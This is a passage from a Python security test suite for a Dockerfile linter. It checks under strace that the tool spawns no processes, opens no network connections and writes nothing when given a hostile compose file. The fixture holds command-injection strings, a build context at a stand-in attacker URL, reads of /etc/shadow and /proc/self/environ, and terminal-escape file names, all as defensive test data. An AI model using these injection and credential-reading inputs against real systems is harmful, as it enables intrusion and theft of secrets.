                           + r'|"Dockerfile"|"\."|"\.dockerlint-|"' + re.escape(self.folder.path) + r'/?"|""')
        begun = next(i for i, line in enumerate(lines) if "Dockerfile" in line and not line.startswith("execve"))
        opened = [line for line in lines[begun:] if line.startswith("open")]
        self.assertEqual([line for line in opened if not asked.search(line)], [])
        self.assertFalse(os.path.exists(self.folder("owned")))

    COMPOSE = b"""include:
  - ../outside/compose.yaml
  - /dev/zero
  - ./pipe
  - /proc/self/environ
  - path: ../outside/compose.yaml
    env_file: /dev/zero
services:
  above: {build: ../outside}
  linked: {build: ./link}
  named: {build: {context: ., dockerfile: ../outside/Dockerfile}}
  extended: {extends: {file: link/compose.yaml, service: one}}
  endless: {build: {context: ., dockerfile: /dev/zero}}
  waiting: {build: {context: ., dockerfile: pipe}}
  commands: {build: "$(touch owned)`touch owned`"}
  network: {build: "https://attacker.example/x.git", env_file: /etc/shadow}
"""

    @needs_strace
    def test_a_compose_file(self):
        outside = {"outside/Dockerfile": OLD, "outside/compose.yaml": EveryWriter.COMPOSE}
        for folder in ("outside", "repository", "repository/.git"):
            os.mkdir(self.folder(folder))
        for name, content in outside.items():
            self.folder.write(name, content)
        os.symlink("../outside", self.folder("repository/link"))
        os.mkfifo(self.folder("repository/pipe"))
        self.folder.write("repository/compose.yaml", self.COMPOSE)
        log = self.folder("log")
        for given in ("repository", "repository/compose.yaml"):
            finish(start("--fix", "--unsafe-fixes", self.folder(given), before=[
                "strace", "-f", "-qq", "-o", log, "-e", "trace=%process,%network,%file"]))
            with open(log, encoding="utf-8", errors="replace") as file:
                calls = file.read()
            self.assertEqual(re.findall(r"(?:fork|socket|connect|bind)\(.*", calls), [])
            self.assertEqual(len(re.findall(r"execve\(", calls)), 1)
            self.assertNotIn("/etc/shadow", calls)
            self.assertEqual([line for line in calls.splitlines() if re.search("O_WRONLY|O_RDWR|O_CREAT", line)], [])
            self.assertEqual({name: self.folder.read(name) for name in outside}, outside)
        self.assertEqual(sorted(os.listdir(self.folder("repository"))), [".git", "compose.yaml", "link", "pipe"])

    def test_links_out_of_the_folder(self):
        outside = Folder(tempfile.mkdtemp(prefix="dockerlint-faults-"))
        self.addCleanup(shutil.rmtree, outside.path)
        outside.write("secret")
        os.symlink(outside("secret"), self.folder("Dockerfile"))
        os.symlink(outside.path, self.folder("folder"))
        outside.write("Dockerfile")
        self.folder.write("Dockerfile.mine")
        self.assertEqual(dockerlint("--fix", self.folder.path).status, 0)
        self.assertEqual((outside.read("secret"), outside.read()), (OLD, OLD))
        self.assertEqual(self.folder.read("Dockerfile.mine"), NEW)

    def test_ignore_files_that_are_links(self):
        """As git does, we do not follow them."""
        outside = self.folder.write("outside", b"Dockerfile\n")
        os.mkdir(self.folder("repository"))
        self.folder.write("repository/Dockerfile")
        os.symlink(outside, self.folder("repository/.gitignore"))
        self.assertEqual(dockerlint("--fix", self.folder("repository")).status, 0)
        self.assertEqual(self.folder.read("repository/Dockerfile"), NEW)

    def test_names_that_are_commands_to_a_terminal(self):
        os.mkdir(self.folder("\x1b]0;owned\x07"))
        self.folder.write("\x1b]0;owned\x07/Dockerfile", b"FORM \x1b[2Jx\n")
        result = dockerlint("--fix", "--show-fixes", self.folder.path, self.folder("missing\x1b[2J"))
        self.assertNotIn("\x1b", result.err)


def main():
    global PROGRAM
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    os.environ["ASAN_OPTIONS"] = "detect_leaks=0"  # which cannot be done under strace
    place = tempfile.mkdtemp(prefix="dockerlint-faults-")
    os.chmod(place, 0o755)  # others than we run it too
    PROGRAM = shutil.copy(sys.argv[1], place)
    try:
        run = unittest.main(argv=[sys.argv[0], *sys.argv[2:]], exit=False, verbosity=2).result
    finally:
        shutil.rmtree(place)
    print(f"{run.testsRun - len(run.skipped)} ran, {len(run.skipped)} skipped, "
          f"{len(run.failures) + len(run.errors)} failed")
    if not run.wasSuccessful():
        sys.exit(1)
    sys.exit(77 if run.testsRun == len(run.skipped) else 0)


if __name__ == "__main__":
    main()
